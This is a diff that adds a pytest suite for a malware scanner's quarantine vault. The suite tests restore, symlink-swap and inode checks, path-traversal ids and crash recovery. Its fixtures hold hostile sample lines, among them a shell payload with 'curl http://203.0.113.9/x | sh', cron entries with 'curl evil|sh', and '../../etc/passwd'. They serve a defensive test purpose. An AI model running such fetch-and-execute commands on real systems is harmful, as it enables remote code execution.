@@ -1,0 +1,616 @@
+"""Tests of the quarantine vault: round trips, hostile paths, and kill -9 at every step."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import os
+import signal
+import stat
+import subprocess
+import sys
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+
+from scanner import inert, quarantine
+from scanner.errors import QuarantineError, UsageError
+from scanner.quarantine import FAULT_STEPS, FileIdentity, ItemKind, QuarantineItem, Vault, identify
+
+REPO = Path(__file__).resolve().parents[1]
+NOW = datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC)
+# Bytes a rule would hit; the vault copy must not contain them.
+PAYLOAD = b"#!/bin/sh\necho EVIL-MARKER-1234 && curl http://203.0.113.9/x | sh\n" * 50
+IS_ROOT = os.geteuid() == 0
+
+
+def sha256(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+
+
+def make_vault(tmp_path: Path, now: datetime = NOW) -> Vault:
+    return Vault(tmp_path / "state" / "quarantine", now=lambda: now)
+
+
+def write(path: Path, data: bytes = PAYLOAD, mode: int = 0o750) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data)
+    path.chmod(mode)
+    os.utime(path, ns=(1_600_000_000_123_456_789, 1_500_000_000_987_654_321))
+    return path
+
+
+def assert_clean(vault: Vault) -> None:
+    """No journal, no temporary file, and every content file has its record and vice versa."""
+    assert list(vault.journal_dir.iterdir()) == []
+    assert list(vault.tmp_dir.iterdir()) == []
+    items = vault.list()
+    expected = {f"{i.id}.json" for i in items} | {f"{i.id}.inert" for i in items if i.restorable}
+    assert {p.name for p in vault.items_dir.iterdir()} == expected
+    assert vault.damaged() == []
+
+
+def assert_no_restore_temps(folder: Path) -> None:
+    if folder.is_dir():
+        assert [p for p in folder.iterdir() if p.name.startswith(".scanner-restore-")] == []
+
+
+# -- the ordinary life of an item ----------------------------------------------------------
+
+
+def test_quarantine_then_restore_round_trip(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "home" / "bin" / "dropper.sh")
+    ident = identify(str(target))
+
+    item = vault.quarantine(str(target), ident, "Linux_Dropper", "Dropper", "scan-1")
+
+    assert not target.exists()
+    assert item.kind is ItemKind.QUARANTINE
+    assert (item.sha256, item.size, item.mode) == (ident.sha256, len(PAYLOAD), 0o750)
+    assert item.quarantined_at == NOW and item.id.startswith("20250304T050607Z-")
+    stored = (vault.items_dir / f"{item.id}.inert").read_bytes()
+    assert stored != PAYLOAD and b"EVIL-MARKER-1234" not in stored and inert.decode(stored) == PAYLOAD
+    assert vault.list() == [item] and vault.get(item.id) == item
+    assert_clean(vault)
+
+    assert vault.restore(item.id) == str(target)
+
+    st = target.stat()  # before reading it, which would move the access time
+    assert stat.S_IMODE(st.st_mode) == 0o750
+    assert (st.st_atime_ns, st.st_mtime_ns) == (item.atime_ns, 1_500_000_000_987_654_321)
+    assert target.read_bytes() == PAYLOAD
+    assert vault.list() == []
+    assert_clean(vault)
+    assert_no_restore_temps(target.parent)
+
+
+def test_record_json_has_the_listed_fields_and_round_trips(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "x.bin")
+    item = vault.quarantine(str(target), identify(str(target)), "R", "Fam", "scan-9")
+
+    on_disk = json.loads((vault.items_dir / f"{item.id}.json").read_text())
+    assert on_disk == item.to_json()
+    for key in ("id", "original_path", "original_path_b64", "sha256", "family", "rule", "quarantined_at"):
+        assert key in on_disk
+    assert on_disk["quarantined_at"] == "2025-03-04T05:06:07Z"
+    assert (on_disk["rule"], on_disk["family"], on_disk["scan_id"]) == ("R", "Fam", "scan-9")
+    assert QuarantineItem.from_json(on_disk) == item
+
+
+def test_undecodable_path_is_kept_losslessly(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    raw = os.fsencode(tmp_path) + b"/caf\xe9-\xff\x80.bin"
+    path = os.fsdecode(raw)
+    with open(path, "wb") as f:
+        f.write(PAYLOAD)
+
+    item = vault.quarantine(path, identify(path), "R", "F", "s")
+
+    record = item.to_json()
+    json.dumps(record).encode("utf-8")  # printable, no lone surrogates
+    assert base64.b64decode(str(record["original_path_b64"])) == raw
+    assert str(record["original_path"]).endswith("caf\\xe9-\\xff\\x80.bin")
+    assert vault.get(item.id).original_path == path
+    vault.restore(item.id)
+    with open(raw, "rb") as f:
+        assert f.read() == PAYLOAD
+
+
+@pytest.mark.parametrize("umask", [0o000, 0o277])
+def test_vault_is_private_whatever_the_umask(tmp_path: Path, umask: int) -> None:
+    old = os.umask(umask)
+    try:
+        vault = make_vault(tmp_path)
+        target = write(tmp_path / "a.bin")
+        vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
+        vault.backup(str(write(tmp_path / "crontab", b"* * * * * true\n", 0o644)), "s", "cron line")
+    finally:
+        os.umask(old)
+    for dirpath, _dirnames, filenames in os.walk(vault.root):
+        assert stat.S_IMODE(os.stat(dirpath).st_mode) == 0o700, dirpath
+        for name in filenames:
+            assert stat.S_IMODE(os.stat(os.path.join(dirpath, name)).st_mode) == 0o600, name
+
+
+@pytest.mark.skipif(not IS_ROOT, reason="changing owners needs root")
+def test_restore_puts_back_owner_and_recreates_parents_like_the_original(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    folder = tmp_path / "home" / "alice" / ".config" / "autostart"
+    target = write(folder / "evil.desktop", mode=0o4751)
+    os.chown(target, 1234, 5678)
+    os.chmod(target, 0o4751)  # chown cleared the set-uid bit
+    folder.chmod(0o751)
+    os.chown(folder, 1234, 5678)
+    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
+    (tmp_path / "home" / "alice" / ".config" / "autostart").rmdir()
+    (tmp_path / "home" / "alice" / ".config").rmdir()
+
+    vault.restore(item.id)
+
+    st = target.stat()
+    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (1234, 5678, 0o4751)
+    for made in (folder, folder.parent):
+        pst = made.stat()
+        assert (pst.st_uid, pst.st_gid, stat.S_IMODE(pst.st_mode)) == (1234, 5678, 0o751)
+
+
+def test_restore_refuses_to_overwrite_and_restores_elsewhere(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "a.bin")
+    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
+    write(target, b"a new, innocent file")
+
+    with pytest.raises(QuarantineError, match=r"already exists.*--to PATH"):
+        vault.restore(item.id)
+    assert target.read_bytes() == b"a new, innocent file"
+    assert vault.get(item.id) == item
+    assert_no_restore_temps(target.parent)
+
+    elsewhere = tmp_path / "restored"
+    elsewhere.mkdir()
+    assert vault.restore(item.id, to=str(elsewhere)) == str(elsewhere / "a.bin")
+    assert (elsewhere / "a.bin").read_bytes() == PAYLOAD
+    assert_clean(vault)
+
+
+def test_restore_refuses_a_dangling_symlink_at_the_target(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "a.bin")
+    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
+    target.symlink_to(tmp_path / "would-be-created")
+
+    with pytest.raises(QuarantineError, match="already exists"):
+        vault.restore(item.id)
+    assert not (tmp_path / "would-be-created").exists()
+
+
+def test_restore_verifies_the_hash_of_the_vault_copy(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "a.bin")
+    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
+    content = vault.items_dir / f"{item.id}.inert"
+    blob = bytearray(content.read_bytes())
+    blob[-1] ^= 0xFF
+    content.write_bytes(bytes(blob))
+
+    with pytest.raises(QuarantineError, match="damaged"):
+        vault.restore(item.id)
+    assert not target.exists()
+    assert vault.get(item.id) == item
+    assert_no_restore_temps(target.parent)
+    assert list(vault.journal_dir.iterdir()) == []
+
+
+def test_backup_keeps_the_original_and_restores_over_it_only_when_asked(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    cron = write(tmp_path / "spool" / "root", b"0 * * * * backup\n* * * * * curl evil|sh\n", 0o600)
+    item = vault.backup(str(cron), "scan-2", "removed a persistence line")
+    assert cron.read_bytes().endswith(b"curl evil|sh\n")
+    assert item.kind is ItemKind.BACKUP and item.rule is None and item.reason == "removed a persistence line"
+    stored = (vault.items_dir / f"{item.id}.inert").read_bytes()
+    assert b"curl evil" not in stored
+    cron.write_bytes(b"0 * * * * backup\n")  # what persistence cleaning leaves
+
+    with pytest.raises(QuarantineError, match="already exists"):
+        vault.restore(item.id)
+    assert cron.read_bytes() == b"0 * * * * backup\n"
+
+    vault.restore(item.id, overwrite=True)
+    assert cron.read_bytes() == b"0 * * * * backup\n* * * * * curl evil|sh\n"
+    assert stat.S_IMODE(cron.stat().st_mode) == 0o600
+    assert_clean(vault)
+    assert_no_restore_temps(cron.parent)
+
+
+def test_backup_refuses_a_symlink(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    real = write(tmp_path / "dotfiles" / "bashrc", b"alias ls='ls'\n")
+    link = tmp_path / ".bashrc"
+    link.symlink_to(real)
+    with pytest.raises(QuarantineError, match="symbolic link"):
+        vault.backup(str(link), "s", "r")
+    assert vault.list() == []
+
+
+def test_remove_action_deletes_and_keeps_only_a_record(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "a.bin")
+    ident = identify(str(target))
+
+    item = vault.quarantine(str(target), ident, "R", "F", "s", keep=False)
+
+    assert not target.exists()
+    assert item.kind is ItemKind.REMOVED and not item.restorable and item.sha256 == ident.sha256
+    assert vault.list() == [item]
+    assert [p.name for p in vault.items_dir.iterdir()] == [f"{item.id}.json"]
+    with pytest.raises(QuarantineError, match="content was not kept"):
+        vault.restore(item.id)
+    assert_clean(vault)
+
+
+def test_delete_and_purge(tmp_path: Path) -> None:
+    old = make_vault(tmp_path, NOW - timedelta(days=100))
+    new = make_vault(tmp_path, NOW - timedelta(days=10))
+    a = old.quarantine(str(write(tmp_path / "a")), None, "R", "F", "s")
+    b = new.quarantine(str(write(tmp_path / "b")), None, "R", "F", "s")
+    c = new.quarantine(str(write(tmp_path / "c")), None, "R", "F", "s")
+
+    new.delete(c.id)
+    assert [i.id for i in new.list()] == [a.id, b.id]
+    with pytest.raises(QuarantineError, match="no quarantine item"):
+        new.get(c.id)
+
+    assert new.purge(90, now=NOW) == [a.id]
+    assert [i.id for i in new.list()] == [b.id]
+    assert new.purge(11, now=NOW) == []
+    assert new.purge(9, now=NOW) == [b.id]
+    assert_clean(new)
+    with pytest.raises(UsageError):
+        new.purge(-1)
+
+
+@pytest.mark.parametrize("bad", ["../../etc/passwd", "..", "", "a/b", ".hidden"])
+def test_ids_cannot_escape_the_vault(tmp_path: Path, bad: str) -> None:
+    vault = make_vault(tmp_path)
+    for call in (vault.get, vault.restore, vault.delete):
+        with pytest.raises(QuarantineError, match="not a quarantine item id"):
+            call(bad)
+
+
+def test_damaged_record_is_reported_not_listed(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    item = vault.quarantine(str(write(tmp_path / "a")), None, "R", "F", "s")
+    (vault.items_dir / f"{item.id}.json").write_text("{not json")
+    assert vault.list() == []
+    assert vault.damaged() == [vault.items_dir / f"{item.id}.json"]
+    with pytest.raises(QuarantineError, match="damaged"):
+        vault.get(item.id)
+
+
+# -- the file acted on is the file scanned -------------------------------------------------
+
+
+def assert_untouched(vault: Vault) -> None:
+    assert vault.list() == []
+    assert list(vault.items_dir.iterdir()) == []
+    assert_clean(vault)
+
+
+def test_symlink_swapped_in_after_the_scan_is_not_followed(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "dl" / "payload.bin")
+    victim = write(tmp_path / "etc" / "important.conf", PAYLOAD)  # same bytes, to tempt a hash check
+    ident = identify(str(target))
+    target.unlink()
+    target.symlink_to(victim)
+
+    with pytest.raises(QuarantineError, match="symbolic link"):
+        vault.quarantine(str(target), ident, "R", "F", "s")
+
+    assert victim.read_bytes() == PAYLOAD and target.is_symlink()
+    assert_untouched(vault)
+
+
+def test_symlink_is_refused_even_without_a_scanned_identity(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    victim = write(tmp_path / "important.conf")
+    link = tmp_path / "link"
+    link.symlink_to(victim)
+    with pytest.raises(QuarantineError, match="symbolic link"):
+        vault.quarantine(str(link), None, "R", "F", "s")
+    assert victim.exists() and link.is_symlink()
+
+
+def test_file_replaced_by_another_with_the_same_bytes_is_refused(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "a.bin")
+    ident = identify(str(target))
+    target.rename(tmp_path / "a.bin.orig")
+    write(target)  # same content, new inode
+
+    with pytest.raises(QuarantineError, match="device/inode changed"):
+        vault.quarantine(str(target), ident, "R", "F", "s")
+    assert target.read_bytes() == PAYLOAD
+    assert_untouched(vault)
+
+
+def test_content_changed_in_place_since_the_scan_is_refused(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "a.bin")
+    ident = identify(str(target))
+    with open(target, "r+b") as f:  # same inode, same size, other bytes
+        f.write(b"X")
+
+    with pytest.raises(QuarantineError, match="no longer has the content that was scanned"):
+        vault.quarantine(str(target), ident, "R", "F", "s")
+    assert target.read_bytes() == b"X" + PAYLOAD[1:]
+    assert_untouched(vault)
+
+
+@pytest.mark.skipif(not IS_ROOT, reason="needs a symlink owned by another user")
+def test_parent_folder_swapped_for_an_untrusted_symlink_is_not_followed(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "dl" / "payload.bin")
+    elsewhere = write(tmp_path / "etc" / "payload.bin")
+    ident = identify(str(target))
+    (tmp_path / "dl").rename(tmp_path / "dl.old")
+    (tmp_path / "dl").symlink_to(tmp_path / "etc")
+    os.lchown(tmp_path / "dl", 65534, 65534)
+
+    with pytest.raises(QuarantineError, match="symbolic link owned by uid 65534"):
+        vault.quarantine(str(target), ident, "R", "F", "s")
+    with pytest.raises(QuarantineError, match="symbolic link owned by uid 65534"):
+        vault.quarantine(str(target), None, "R", "F", "s")
+    assert elsewhere.read_bytes() == PAYLOAD
+    assert_untouched(vault)
+
+
+def test_parent_folder_swapped_for_a_trusted_symlink_is_caught_by_the_inode(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "dl" / "payload.bin")
+    elsewhere = write(tmp_path / "etc" / "payload.bin")
+    ident = identify(str(target))
+    (tmp_path / "dl").rename(tmp_path / "dl.old")
+    (tmp_path / "dl").symlink_to(tmp_path / "etc")  # ours, so it is followed
+
+    with pytest.raises(QuarantineError, match="device/inode changed"):
+        vault.quarantine(str(target), ident, "R", "F", "s")
+    assert elsewhere.read_bytes() == PAYLOAD
+    assert_untouched(vault)
+
+
+def test_trusted_symlinked_folder_on_the_way_is_followed(tmp_path: Path) -> None:
+    # Like /bin -> usr/bin on merged-/usr systems.
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "usr" / "bin" / "evil")
+    (tmp_path / "bin").symlink_to("usr/bin")
+    via_link = str(tmp_path / "bin" / "evil")
+    item = vault.quarantine(via_link, identify(via_link), "R", "F", "s")
+    assert not target.exists()
+    vault.restore(item.id)
+    assert target.read_bytes() == PAYLOAD
+
+
+def test_name_swapped_between_copy_and_unlink_is_left_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "a.bin")
+    ident = identify(str(target))
+
+    def swap(step: str) -> None:
+        if step == "quarantine:recorded":  # the copy is made and recorded; the unlink is next
+            target.rename(tmp_path / "a.bin.orig")
+            write(target, b"someone else's file")
+
+    monkeypatch.setattr(quarantine, "_fault", swap)
+    with pytest.raises(QuarantineError, match="was replaced while it was being quarantined"):
+        vault.quarantine(str(target), ident, "R", "F", "s")
+
+    assert target.read_bytes() == b"someone else's file"
+    assert (tmp_path / "a.bin.orig").read_bytes() == PAYLOAD
+    assert_untouched(vault)
+
+
+def test_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    with pytest.raises(QuarantineError, match="not a regular file"):
+        vault.quarantine(str(fifo), None, "R", "F", "s")
+
+
+# -- crash safety: kill -9 at every step ----------------------------------------------------
+
+CHILD = r"""
+import json, os, sys
+from datetime import datetime, timezone
+from pathlib import Path
+from scanner.quarantine import FileIdentity, Vault
+
+a = json.loads(sys.argv[1])
+vault = Vault(Path(a["root"]), now=lambda: datetime(2025, 3, 4, tzinfo=timezone.utc))
+op = a["op"]
+if op in ("quarantine", "remove"):
+    vault.quarantine(a["path"], FileIdentity(**a["ident"]), "R", "F", "s", keep=op == "quarantine")
+elif op == "backup":
+    vault.backup(a["path"], "s", "cleaning")
+elif op == "restore":
+    vault.restore(a["item"], to=a.get("to"), overwrite=a.get("overwrite", False))
+elif op == "delete":
+    vault.delete(a["item"])
+print("finished without being killed")
+"""
+
+
+def run_killed(step: str, **args: object) -> None:
+    env = {**os.environ, quarantine.ENV_FAULT: step, "PYTHONPATH": str(REPO)}
+    proc = subprocess.run(
+        [sys.executable, "-c", CHILD, json.dumps(args)], env=env, cwd=REPO, capture_output=True, text=True
+    )
+    assert proc.returncode == -signal.SIGKILL, (step, proc.returncode, proc.stdout, proc.stderr)
+
+
+def recover_twice(vault: Vault) -> list[str]:
+    done = vault.recover()
+    assert vault.recover() == []  # idempotent
+    assert_clean(vault)
+    return done
+
+
+def ident_args(path: Path) -> dict[str, object]:
+    return vars(identify(str(path)))
+
+
+@pytest.mark.parametrize("op", ["quarantine", "remove"])
+def test_kill_during_quarantine_or_remove_loses_nothing(tmp_path: Path, op: str) -> None:
+    steps = FAULT_STEPS[op]
+    forward_from = steps.index(f"{op}:recorded")
+    for n, step in enumerate(steps):
+        case = tmp_path / str(n)
+        vault = make_vault(case)
+        target = write(case / "victim dir" / "payload.bin")
+        run_killed(step, op=op, root=str(vault.root), path=str(target), ident=ident_args(target))
+
+        done = recover_twice(vault)
+
+        assert done, step
+        items = vault.list()
+        if n < forward_from:  # rolled back: the original was never touched
+            assert target.read_bytes() == PAYLOAD, step
+            assert items == [], step
+        else:  # rolled forward
+            assert not target.exists(), step
+            assert len(items) == 1, step
+            if op == "quarantine":
+                vault.restore(items[0].id)
+                assert target.read_bytes() == PAYLOAD, step
+            else:
+                assert items[0].kind is ItemKind.REMOVED and items[0].sha256 == sha256(PAYLOAD)
+
+
+def test_kill_during_backup_loses_nothing(tmp_path: Path) -> None:
+    steps = FAULT_STEPS["backup"]
+    for n, step in enumerate(steps):
+        case = tmp_path / str(n)
+        vault = make_vault(case)
+        cron = write(case / "crontab", b"* * * * * curl evil|sh\n", 0o600)
+        run_killed(step, op="backup", root=str(vault.root), path=str(cron))
+
+        recover_twice(vault)
+
+        assert cron.read_bytes() == b"* * * * * curl evil|sh\n", step
+        items = vault.list()
+        assert len(items) == (1 if step == "backup:recorded" else 0), step
+        if items:
+            cron.unlink()
+            vault.restore(items[0].id)
+            assert cron.read_bytes() == b"* * * * * curl evil|sh\n"
+
+
+@pytest.mark.parametrize("overwrite", [False, True], ids=["restore", "undo-backup"])
+def test_kill_during_restore_loses_nothing(tmp_path: Path, overwrite: bool) -> None:
+    steps = FAULT_STEPS["restore"]
+    forward_from = steps.index("restore:placed")
+    for n, step in enumerate(steps):
+        case = tmp_path / str(n)
+        vault = make_vault(case)
+        target = write(case / "gone" / "deeper" / "payload.bin")
+        if overwrite:
+            item = vault.backup(str(target), "s", "cleaning")
+            target.write_bytes(b"edited")
+        else:
+            item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
+            (case / "gone" / "deeper").rmdir()
+            (case / "gone").rmdir()
+        run_killed(step, op="restore", root=str(vault.root), item=item.id, overwrite=overwrite)
+
+        done = recover_twice(vault)
+
+        assert done, step
+        assert_no_restore_temps(target.parent)
+        if n < forward_from:  # rolled back: the item is still whole in the vault
+            assert vault.list() == [item], step
+            assert target.read_bytes() == b"edited" if overwrite else not target.exists(), step
+            vault.restore(item.id, overwrite=overwrite)
+        else:
+            assert vault.list() == [], step
+        assert target.read_bytes() == PAYLOAD, step
+        assert stat.S_IMODE(target.stat().st_mode) == 0o750, step
+
+
+def test_kill_during_delete_leaves_no_half_item(tmp_path: Path) -> None:
+    for n, step in enumerate(FAULT_STEPS["delete"]):
+        case = tmp_path / str(n)
+        vault = make_vault(case)
+        item = vault.quarantine(str(write(case / "a")), None, "R", "F", "s")
+        run_killed(step, op="delete", root=str(vault.root), item=item.id)
+
+        assert recover_twice(vault) == [f"finished deleting item {item.id}"], step
+        assert vault.list() == [], step
+
+
+def test_recover_keeps_an_original_that_changed_after_the_crash(tmp_path: Path) -> None:
+    for op in ("quarantine", "remove"):
+        case = tmp_path / op
+        vault = make_vault(case)
+        target = write(case / "a.bin")
+        run_killed(f"{op}:recorded", op=op, root=str(vault.root), path=str(target), ident=ident_args(target))
+        target.write_bytes(b"rewritten by its owner after the crash")
+
+        (message,) = recover_twice(vault)
+
+        assert target.read_bytes() == b"rewritten by its owner after the crash"
+        if op == "quarantine":  # the scanned copy stays in the vault, as a copy
+            assert "left in place" in message
+            (item,) = vault.list()
+            assert inert.decode((vault.items_dir / f"{item.id}.inert").read_bytes()) == PAYLOAD
+        else:  # the record would claim a removal that did not happen
+            assert "rolled back" in message
+            assert vault.list() == []
+
+
+def test_recover_sweeps_temporary_files_of_a_crash_before_the_journal(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    target = write(tmp_path / "a")
+    vault.quarantine(str(target), None, "R", "F", "s")
+    (vault.tmp_dir / "0123456789abcdef.json.part").write_bytes(b'{"format": 1, "op": "quaran')
+    assert vault.recover() == []
+    assert_clean(vault)
+
+
+def test_recover_on_a_fresh_state_directory_creates_nothing(tmp_path: Path) -> None:
+    vault = make_vault(tmp_path)
+    assert vault.recover() == []
+    assert vault.list() == []
+    assert not vault.root.exists()
+
+
+def test_every_fault_step_is_registered_in_order(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    seen: list[str] = []
+    monkeypatch.setattr(quarantine, "_fault", seen.append)
+    vault = make_vault(tmp_path)
+
+    def steps_of(action: object) -> tuple[str, ...]:
+        seen.clear()
+        assert callable(action)
+        action()
+        return tuple(seen)
+
+    a = write(tmp_path / "a")
+    b = write(tmp_path / "b")
+    cron = write(tmp_path / "cron")
+    made: list[QuarantineItem] = []
+    assert steps_of(lambda: made.append(vault.quarantine(str(a), None, "R", "F", "s"))) == FAULT_STEPS["quarantine"]
+    assert steps_of(lambda: vault.quarantine(str(b), None, "R", "F", "s", keep=False)) == FAULT_STEPS["remove"]
+    assert steps_of(lambda: made.append(vault.backup(str(cron), "s", "r"))) == FAULT_STEPS["backup"]
+    assert steps_of(lambda: vault.restore(made[0].id)) == FAULT_STEPS["restore"]
+    assert steps_of(lambda: vault.delete(made[1].id)) == FAULT_STEPS["delete"]
+
+
+def test_file_identity_from_stat(tmp_path: Path) -> None:
+    target = write(tmp_path / "a")
+    st = os.lstat(target)
+    assert identify(str(target)) == FileIdentity(st.st_dev, st.st_ino, st.st_size, st.st_mtime_ns, sha256(PAYLOAD))
